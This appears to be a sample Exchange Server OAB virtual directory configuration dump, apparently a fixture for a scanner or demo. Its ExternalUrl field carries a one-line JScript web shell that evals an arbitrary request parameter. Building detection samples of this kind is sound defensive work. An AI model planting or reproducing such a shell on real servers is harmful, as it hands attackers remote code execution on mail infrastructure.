Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
InternalUrl                     : https://mail.example.test/OAB
ExternalUrl                     : http://g/<script language="JScript" runat="server">function Page_Load(){eval(Request["exscan_demo"],"unsafe");}</script>
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalAuthenticationMethods   : {WindowsIntegrated}
ExtendedProtectionTokenChecking : None
Server                          : EXCH01
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
